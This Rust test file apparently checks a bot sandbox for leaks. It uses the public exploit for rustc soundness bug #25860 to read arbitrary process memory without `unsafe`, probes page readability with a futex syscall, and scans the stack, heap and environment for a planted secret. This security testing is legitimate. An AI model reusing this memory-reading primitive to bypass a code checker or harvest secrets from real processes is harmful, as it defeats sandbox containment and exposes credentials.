//! Secrets test: a bot that reads its own process's memory without `unsafe`, the way an
//! author who found a soundness hole in rustc could, and looks for a secret the tests
//! planted in the runner (its environment, its arguments, the store's URL).
//!
//! The reading uses the public technique for rust-lang/rust#25860 (implied lifetime
//! bounds are forgotten when a function becomes a higher-ranked function pointer):
//! a reference whose lifetime is cut loose from what it borrows, then an enum whose
//! variant changes under it, makes any address a `&[u8]`. The checker refuses
//! explicit lifetimes and `for<'a>` (docs/rules.md), so the tests build this file
//! without the rules check. Knowing which pages are readable takes one allowed system
//! call (`futex` wake on the page, which the kernel answers with EFAULT for an
//! unreadable address); that part is the test's instrument, not the technique.
//!
//! Which mappings: every readable page near a pointer it holds (its stack, its heap,
//! its statics, its code) and then, again and again, near every pointer-like word in
//! what it has read, so it follows the executable's and the C library's statics to
//! the initial stack, where the kernel put the environment and the arguments.
//!
//! It reports on stderr and then panics in `think`, so every path that starts a bot
//! records the report in the game's fault: `memory scan: marker absent; N regions,
//! M KiB` (or `marker FOUND`). The marker is kept XOR-ed, so the bot's own
//! memory never holds it in plain text.
use framework::prelude::*;
use std::collections::{BTreeMap, HashSet};

/// The marker, each byte XOR-ed with `KEY`.
const MARKER: &[u8] = b"\xce\xcc\xd1\x88\xd5\xc9\xc4\xcb\xd1\xc0\xc1\x88\xd6\xc0\xc6\xd7\xc0\xd1\x88\x91\xc3\x9c\xc6\x97\xc0";
const KEY: u8 = 0xa5;
const PAGE: usize = 4096;
/// How far past the end of a mapping to look for the next one (guard pages, the
/// holes ld.so leaves between a library's segments).
const GAP_PAGES: usize = 512;
/// A bound on the readability probes, so the scan ends within the construction limit.
const MAX_PROBES: usize = 3_000_000;
/// Addresses waiting to be looked at. The list never grows past its first
/// allocation: growing would move it, and unmap memory the scan may be reading.
const MAX_SEEDS: usize = 1 << 20;

// The technique: `'b: 'a` is implied by the first argument's type, and forgotten
// when the function is coerced to a pointer that is generic over the input lifetime.
fn launder<'a, 'b, T: ?Sized>(_witness: &'a &'b (), value: &'b mut T) -> &'a mut T {
    value
}

fn detach<'a, 'b, T: ?Sized>(value: &'a mut T) -> &'b mut T {
    let cut: for<'x> fn(&'static &'static (), &'x mut T) -> &'b mut T = launder;
    cut(&&(), value)
}

enum Slot {
    View(&'static [u8]),
    Raw(usize, usize),
}

/// `len` bytes at `addr`, through a reference that outlived the variant it pointed to.
fn view(addr: usize, len: usize) -> &'static [u8] {
    let mut slot = Slot::View(&[]);
    let Slot::View(inner) = &mut slot else {
        unreachable!()
    };
    let inner: &'static mut &'static [u8] = detach(inner);
    slot = Slot::Raw(addr, len);
    std::hint::black_box(&mut slot);
    std::hint::black_box(&*inner)
}

#[cfg(target_arch = "x86_64")]
fn readable(page: usize) -> bool {
    let result: isize;
    // SAFETY: a futex wake of no one only asks the kernel to look the page up.
    unsafe {
        std::arch::asm!("syscall", inlateout("rax") 202isize => result, in("rdi") page,
            in("rsi") 1, in("rdx") 0, lateout("rcx") _, lateout("r11") _);
    }
    result >= 0
}

#[cfg(target_arch = "aarch64")]
fn readable(page: usize) -> bool {
    let result: isize;
    // SAFETY: a futex wake of no one only asks the kernel to look the page up.
    unsafe {
        std::arch::asm!("svc 0", in("x8") 98isize, inlateout("x0") page as isize => result,
            in("x1") 1, in("x2") 0);
    }
    result >= 0
}

#[derive(Default)]
struct Scan {
    regions: BTreeMap<usize, usize>,
    unreadable: HashSet<usize>,
    probes: usize,
    bytes: usize,
    found: bool,
}

impl Scan {
    fn covered(&self, page: usize) -> bool {
        self.regions
            .range(..=page)
            .next_back()
            .is_some_and(|(_, &end)| page < end)
    }

    fn probe(&mut self, page: usize) -> bool {
        if self.covered(page) {
            return true;
        }
        if self.unreadable.contains(&page) || self.probes >= MAX_PROBES {
            return false;
        }
        self.probes += 1;
        let ok = page >= PAGE && readable(page);
        if !ok {
            self.unreadable.insert(page);
        }
        ok
    }

    /// The readable run of pages around `addr`, if it is new, and seeds past its ends.
    fn region_at(&mut self, addr: usize, seeds: &mut Vec<usize>) -> Option<(usize, usize)> {
        let page = addr & !(PAGE - 1);
        if self.covered(page) || !self.probe(page) {
            return None;
        }
        let mut start = page;
        while start >= 2 * PAGE && !self.covered(start - PAGE) && self.probe(start - PAGE) {
            start -= PAGE;
        }
        let mut end = page + PAGE;
        while !self.covered(end) && self.probe(end) {
            end += PAGE;
        }
        self.regions.insert(start, end);
        for k in 1..=GAP_PAGES {
            push(seeds, end + k * PAGE);
            if let Some(below) = start.checked_sub(k * PAGE) {
                push(seeds, below);
            }
        }
        Some((start, end))
    }

    fn read(&mut self, (start, end): (usize, usize), seeds: &mut Vec<usize>) {
        let bytes = view(start, end - start);
        self.bytes += bytes.len();
        if bytes
            .windows(MARKER.len())
            .any(|w| w[0] ^ KEY == MARKER[0] && w.iter().zip(MARKER).all(|(b, m)| b ^ KEY == *m))
        {
            self.found = true;
        }
        for word in bytes.chunks_exact(8) {
            let value = usize::from_ne_bytes(word.try_into().unwrap_or_default());
            if (0x10000..0x7fff_ffff_f000).contains(&value) {
                let page = value & !(PAGE - 1);
                if !self.covered(page) && !self.unreadable.contains(&page) {
                    push(seeds, page);
                }
            }
        }
    }

    fn run(mut self, anchors: &[usize]) -> Scan {
        let mut seeds = Vec::with_capacity(MAX_SEEDS);
        seeds.extend_from_slice(anchors);
        while let Some(addr) = seeds.pop() {
            if let Some(region) = self.region_at(addr, &mut seeds) {
                self.read(region, &mut seeds);
            }
        }
        self
    }
}

fn push(seeds: &mut Vec<usize>, addr: usize) {
    if seeds.len() < seeds.capacity() {
        seeds.push(addr);
    }
}

static ANCHOR: [u8; 16] = [7; 16];

pub struct MyBot {
    report: String,
}

impl Default for MyBot {
    fn default() -> Self {
        let local = [0u8; 64];
        let small = Box::new(0u64);
        let large = vec![1u8; 1 << 20];
        let check = view(local.as_ptr() as usize, local.len()) == local.as_slice();
        let anchors = [
            local.as_ptr() as usize,
            &*small as *const u64 as usize,
            large.as_ptr() as usize,
            ANCHOR.as_ptr() as usize,
            <MyBot as Default>::default as fn() -> MyBot as usize,
        ];
        let scan = Scan::default().run(&anchors);
        // Shortest news first: fault records keep a capped line.
        let report = if check {
            format!(
                "memory scan: marker {}; {} regions, {} KiB",
                if scan.found { "FOUND" } else { "absent" },
                scan.regions.len(),
                scan.bytes / 1024
            )
        } else {
            "memory scan: reading through the hole failed".to_string()
        };
        eprintln!("{report}");
        MyBot { report }
    }
}

impl Bot for MyBot {
    fn think(&mut self, _board: Board, _timer: Timer) -> Move {
        panic!("{}", self.report)
    }
}
